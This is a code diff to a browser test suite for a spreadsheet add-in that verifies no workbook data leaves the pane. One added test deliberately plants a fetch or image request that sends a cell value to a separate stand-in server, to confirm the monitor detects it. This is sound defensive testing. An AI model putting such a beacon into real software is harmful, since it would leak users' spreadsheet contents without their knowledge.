@@ -76,31 +76,76 @@ describeInBrowser("nothing leaves the workbook", ({ browser }) => {
     });
   });
 
+  /** Addresses that are neither the add-in's own files nor its own memory. */
+  const foreign = (): readonly string[] => {
+    const own = [`${server.origin}/`, `blob:${server.origin}/`, "data:"];
+    return watched.requests.filter((url) => !own.some((start) => url.startsWith(start)));
+  };
+
   test("a whole session asks for nothing but the add-in's own files", async () => {
     await open(false);
     const started = watched.requests.length;
-    await pane.getByRole("button", { name: "Evaluate sheet" }).click();
-    await pane.getByText(/^Evaluated .* cells written$/).waitFor();
+    const press = (name: string | RegExp): Promise<void> =>
+      pane.getByRole("button", { name, ...(typeof name === "string" ? { exact: true } : {}) }).click();
+    const menu = async (name: string): Promise<void> => {
+      await press("More");
+      await pane.getByRole("menuitem", { name, exact: true }).click();
+    };
+    const see = (text: string | RegExp): Promise<void> => pane.getByText(text).first().waitFor();
+
+    await press("Preview");
+    await see(/\d+ cells would change on 1 sheet/);
+    await press("Evaluate sheet");
+    await see(/^Evaluated .* cells written$/);
     await pane.getByRole("tab", { name: /^All/ }).click();
     for (const row of [0, 1, 2]) {
       await pane.locator("[role=tabpanel] [data-row-heading]").nth(row).click();
       await pane.locator("[role=tabpanel] [aria-current=true]").waitFor();
     }
-    await pane.getByRole("button", { name: "More", exact: true }).click();
-    await pane.getByRole("menuitem", { name: "Evaluate workbook" }).click();
-    await pane.getByText("6 sheets, 76 KPI rows").waitFor();
-    await savedCopy(page);
-    await pane.getByRole("button", { name: "Clear results" }).click();
-    await pane.getByText(/^Cleared .* put back$/).waitFor();
+    await menu("Evaluate workbook");
+    await see("6 sheets, 76 KPI rows");
     await savedCopy(page);
 
-    const isOwn = (url: string): boolean =>
-      url.startsWith(`${server.origin}/`) ||
-      url.startsWith(`blob:${server.origin}/`) ||
-      url.startsWith("data:");
-    expect(watched.requests.filter((url) => !isOwn(url))).toEqual([]);
-    expect(watched.requests.slice(started).filter((url) => url.startsWith(server.origin))).toEqual([]);
+    await press(/^Rules:/);
+    await press("Export…");
+    const rules = await pane.getByRole("textbox", { name: "The rules as text" }).inputValue();
+    expect(rules).toContain("profiles");
+    await press("Import…");
+    await pane.getByRole("textbox", { name: "Choose a file, or paste its text" }).fill(rules);
+    await press("Use these rules");
+    await see(/rule sets? imported\.$/);
+    await press("Back to the results");
+
+    await menu("Check the workbook");
+    await pane.getByRole("tab", { name: /^Disagree/ }).waitFor();
+    await press("Clear results");
+    await see(/cells put back/);
+    await savedCopy(page);
+
+    expect(foreign()).toEqual([]);
+    // Whatever is fetched later on is a further part of the program, by its plain name: no address carries anything of the workbook.
+    const later = watched.requests.slice(started).filter((url) => url.startsWith(server.origin));
+    expect(later.filter((url) => !/^\/[\w.-]+\.js$/.test(url.slice(server.origin.length)))).toEqual([]);
     expect(watched.complaints).toEqual([]);
+  });
+
+  test.each(["fetch", "image"] as const)("a planted %s would be noticed", async (way) => {
+    await open(true);
+    const other = await stranger();
+    try {
+      await pane.evaluate(
+        ([to, by]) => {
+          if (by === "image") new Image().src = `${to}/image?K4=75%25`;
+          else void fetch(`${to}/fetch?K4=75%25`, { mode: "no-cors" });
+        },
+        [other.origin, way] as const,
+      );
+      await expectSoon(() => foreign().length > 0);
+      expect(foreign()).toEqual([`${other.origin}/${way}?K4=75%25`]);
+    } finally {
+      other.server.closeAllConnections();
+      other.server.close();
+    }
   });
 
   /** Tries, from within the pane, each way a script has of sending a cell's content away. */
